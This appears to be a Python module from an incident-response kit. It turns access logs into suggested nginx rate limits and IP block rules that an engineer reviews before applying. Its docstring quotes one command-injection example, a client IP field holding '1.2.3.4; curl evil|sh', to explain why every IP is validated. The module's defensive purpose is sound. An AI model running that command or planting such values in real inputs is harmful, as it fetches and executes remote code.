"""Web remedies as text: nginx ``limit_req`` settings and IP containment rules.

Nothing here executes anything. The runbook's remedies for Incidents 4 and 7 change
production (rate limits, firewall rules), so the kit only *writes* the configuration an
engineer would review and apply. Every IP placed into a rule is parsed with
:mod:`ipaddress` first: log fields are attacker-controlled, and a "client IP" such as
``1.2.3.4; curl evil|sh`` must never reach a command line, even as text to copy.

Input frame for :func:`suggest_limit_req`: the access-log frame (``requested_at`` UTC,
``client_ip``, ``status``…), see ``runbook_lib.sources.logs.access_log``.
"""

from __future__ import annotations

import ipaddress
import math
from collections.abc import Iterable
from dataclasses import dataclass, field

import numpy as np
import pandas as pd
import polars as pl

from runbook_lib.analysis._codes import factorize, ranked_codes, value_codes
from runbook_lib.analysis._polars import NS_PER_MINUTE, NS_PER_SECOND, count_pairs, to_polars

#: nginx: "One megabyte zone can keep about 16 thousand 64-byte states" (ngx_http_limit_req_module).
STATES_PER_MB = 16_000


@dataclass(frozen=True)
class LimitReqSuggestion:
    """A proposed ``limit_req_zone``/``limit_req`` pair and the figures it rests on."""

    rate: str
    burst: int
    zone_mb: int
    location: str
    clients_measured: int
    p_minute_rate: float
    p_second_peak: float
    percentile: float
    excluded: list[str] = field(default_factory=list)
    would_limit: list[str] = field(default_factory=list)

    @property
    def text(self) -> str:
        """The nginx configuration to review (never applied by the kit)."""
        excluded = ", ".join(self.excluded[:10]) or "none"
        pct = f"p{self.percentile * 100:g}"
        zone = f"zone=api:{self.zone_mb}m rate={self.rate}"
        return "\n".join(
            [
                f"# Suggested from {self.clients_measured} normal clients (excluded: {excluded}).",
                f"# {pct} of per-client busiest minute: {self.p_minute_rate:.1f} req/min; "
                f"{pct} of per-client busiest second: {self.p_second_peak:.0f} req.",
                *self._would_limit_lines(),
                "# Review, test on staging, then apply; the kit does not change nginx.",
                "http {",
                f"    limit_req_zone $binary_remote_addr {zone};",
                "    limit_req_status 429;",
                "}",
                f"location {self.location} {{",
                f"    limit_req zone=api burst={self.burst} nodelay;",
                "}",
            ]
        )

    def _would_limit_lines(self) -> list[str]:
        if not self.would_limit:
            return []
        shown = ", ".join(self.would_limit[:5]) + (" …" if len(self.would_limit) > 5 else "")
        return [
            f"# Would also limit {len(self.would_limit)} normal client(s) busier than that: "
            f"{shown} (allow-list them or raise the rate)."
        ]


def _rate_text(per_second: float) -> str:
    # nginx accepts integer r/s or r/m; below 1 r/s a per-minute rate keeps precision.
    if per_second >= 1:
        return f"{math.ceil(per_second)}r/s"
    return f"{max(1, math.ceil(per_second * 60))}r/m"


def _location(places: pl.Series, codes: pl.Series) -> str:
    """The most requested first path segment (``/api/``) of the requests' *places* (their
    *codes* among the distinct endpoints or paths), ties to the one seen first."""
    prefix_codes, prefixes = factorize(places.str.extract(r"^(/[^/{}]+/)", 1))
    named = prefixes.is_not_null().arg_true().cast(pl.UInt32).implode()
    first = pl.DataFrame({"prefix": prefix_codes.gather(codes)}).with_row_index("at")
    first = first.filter(pl.col("prefix").is_in(named))
    if first.is_empty():
        return "/"
    ranked = (
        first.group_by("prefix")
        .agg(pl.len().alias("n"), pl.col("at").min())
        .sort(["n", "at"], descending=[True, False])
    )
    return str(prefixes[ranked["prefix"][0]])


def _busiest_per_client(codes: pl.Series, ns: pl.Series, clients: pl.Series) -> tuple[pd.Series, np.ndarray]:
    """Each client's busiest minute (Series by client, sorted) and busiest second (array,
    same order), from each request's client (*codes*: ranks in the sorted *clients*) and
    time (*ns*: epoch nanoseconds).

    Counted on integer keys (:func:`count_pairs`: each (client, minute) and (client,
    second) pair packed into one sorted integer): on millions of requests the pandas
    groupby over (client, floored timestamp) pairs was the slowest step of the flow, and a
    polars hash group-by over the 4.5M (client, second) pairs of 5M requests still 0.65 s.
    """

    def peak(unit: str, per: int) -> pl.DataFrame:
        per_unit = count_pairs(codes, ns // per, names=("client", unit, "n"))
        return per_unit.group_by("client").agg(pl.col("n").max()).sort("client")

    minutes, seconds = peak("minute", NS_PER_MINUTE), peak("second", NS_PER_SECOND)
    index = pd.Index(clients.gather(minutes["client"]).to_list(), name="client_ip", dtype="str")
    busiest = pd.Series(minutes["n"].to_numpy().astype("int64"), index=index)
    return busiest, seconds["n"].to_numpy().astype(float)


def _request_rows(frame: pd.DataFrame) -> tuple[pl.DataFrame, pl.Series, pl.Series]:
    """``client`` (rank among the sorted *clients*), ``ns`` (epoch nanoseconds) and
    ``place`` (code among the distinct *places*: endpoints, else paths), one row per request.

    The codes are the column's shared ones (:func:`ranked_codes`, :func:`value_codes`).
    """
    client, clients = ranked_codes(frame, "client_ip")
    place, places = value_codes(frame, "endpoint" if "endpoint" in frame.columns else "path")
    ns = to_polars(frame, ["requested_at"])["requested_at"].dt.epoch("ns")
    return pl.DataFrame({"client": client, "ns": ns, "place": place}), clients, places


def suggest_limit_req(
    frame: pd.DataFrame,
    *,
    exclude_ips: Iterable[str] = (),
    percentile: float = 0.99,
    headroom: float = 1.5,
    location: str = "",
) -> LimitReqSuggestion | None:
    """Derive ``rate`` and ``burst`` from what normal clients actually do.

    Normal clients are all clients except *exclude_ips* (the bursting/storming ones the
    analyses named). ``rate`` = *headroom* × the *percentile* of clients' busiest minute;
    ``burst`` = the *percentile* of clients' busiest second, so a legitimate page load
    passes and a script does not. Returns None when no normal client is in the frame.
    """
    excluded = sorted({str(ip) for ip in exclude_ips})
    rows, clients, places = _request_rows(frame)
    left_out = clients.is_in(excluded).arg_true().cast(pl.UInt32).implode()
    normal = rows.filter(pl.col("client").is_not_null() & ~pl.col("client").is_in(left_out))
    if normal.is_empty():
        return None
    busiest, peak_second = _busiest_per_client(normal["client"], normal["ns"], clients)
    peak_minute = busiest.to_numpy(dtype=float)
    p_minute = float(np.quantile(peak_minute, percentile))
    p_second = float(np.quantile(peak_second, percentile))
    distinct = len(clients)
    rate_per_s = headroom * p_minute / 60.0
    burst = max(5, math.ceil(headroom * p_second))
    # nginx allows rate × 60 per minute plus the burst; anyone busier than that gets 429s.
    allowed = _allowed_per_s(rate_per_s) * 60 + burst
    would_limit = busiest[busiest > allowed].sort_values(ascending=False).index.astype(str).tolist()
    return LimitReqSuggestion(
        rate=_rate_text(rate_per_s),
        burst=burst,
        zone_mb=max(1, math.ceil(4 * distinct / STATES_PER_MB)),
        location=location or _location(places, normal["place"].drop_nulls()),
        clients_measured=len(peak_minute),
        p_minute_rate=p_minute,
        p_second_peak=p_second,
        percentile=percentile,
        excluded=excluded,
        would_limit=would_limit,
    )


def _allowed_per_s(per_second: float) -> float:
    if per_second >= 1:
        return float(math.ceil(per_second))
    return max(1, math.ceil(per_second * 60)) / 60.0


def valid_ips(values: Iterable[object]) -> list[str]:
    """The distinct values that parse as IPv4/IPv6 addresses, in first-seen order."""
    seen: dict[str, None] = {}
    for value in values:
        try:
            ip = ipaddress.ip_address(str(value).strip())
        except ValueError:
            continue
        seen.setdefault(ip.compressed, None)
    return list(seen)


def containment_text(ips: Iterable[object]) -> str:
    """nginx ``deny`` lines and iptables/ip6tables rules for *ips*, as text to review.

    Values that are not IP addresses are dropped (listed in a comment by count only).
    Private and loopback addresses get a warning: behind a proxy they are often the load
    balancer, and blocking them blocks everyone.
    """
    given = [str(v) for v in ips]
    good = valid_ips(given)
    lines = ["# Containment for review: NOT applied by the kit."]
    dropped = len({g.strip() for g in given}) - len(good)
    if dropped > 0:
        lines.append(f"# {dropped} value(s) were not IP addresses and were left out.")
    if not good:
        lines.append("# No IP addresses to block.")
        return "\n".join(lines)
    warn = [ip for ip in good if not ipaddress.ip_address(ip).is_global]
    if warn:
        lines.append(
            "# WARNING: non-public address(es) "
            + ", ".join(warn)
            + ": check they are not your proxy or load balancer (X-Forwarded-For)."
        )
    lines.append("")
    lines.append("# nginx (http, server or location block), then: nginx -t && nginx -s reload")
    lines += [f"deny {ip};" for ip in good]
    lines.append("")
    lines.append("# iptables (temporary, lost on reboot)")
    for ip in good:
        tool = "ip6tables" if ipaddress.ip_address(ip).version == 6 else "iptables"
        lines.append(f"sudo {tool} -I INPUT -s {ip} -j DROP")
    return "\n".join(lines)


def limit_req_text(suggestion: LimitReqSuggestion | None) -> str:
    """The suggestion's nginx text, or why there is none."""
    if suggestion is None:
        return "# No normal clients in the window to derive a rate from: no limit_req suggestion."
    return suggestion.text
